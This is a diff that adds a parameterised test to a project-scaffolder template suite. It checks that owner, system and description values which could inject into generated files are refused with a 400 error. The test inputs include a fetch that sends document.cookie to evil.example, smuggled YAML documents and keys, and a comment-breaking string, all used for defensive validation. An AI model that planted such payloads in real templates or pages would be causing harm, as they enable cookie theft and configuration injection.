@@ -281,4 +281,30 @@ describe('template parameters', () => {
     expect(response.status).toBe(400);
     expect(JSON.stringify(response.body.errors)).toContain('javaPackage');
   });
+
+  it.each([
+    [
+      'owner',
+      'group:default/team-billing\n---\nkind: Component\nmetadata: {name: payments}',
+    ],
+    ['system', 'system:default/invoicing\nextra: true'],
+    ['owner', 'user:default/erik-larsen'],
+    [
+      'description',
+      'Renders invoices {fetch(`//evil.example/?` + document.cookie)}',
+    ],
+    ['description', 'Closes the comment */ class X {} /*'],
+    ['description', 'Two lines\nof text that go on'],
+  ])(
+    'refuses a %s that could inject into the generated files (%j)',
+    async (field, value) => {
+      const server = await startScaffolder();
+      const response = await dryRun(server, 'react-web-app', {
+        ...VALUES['react-web-app'],
+        [field]: value,
+      });
+      expect(response.status).toBe(400);
+      expect(JSON.stringify(response.body.errors)).toContain(field);
+    },
+  );
 });
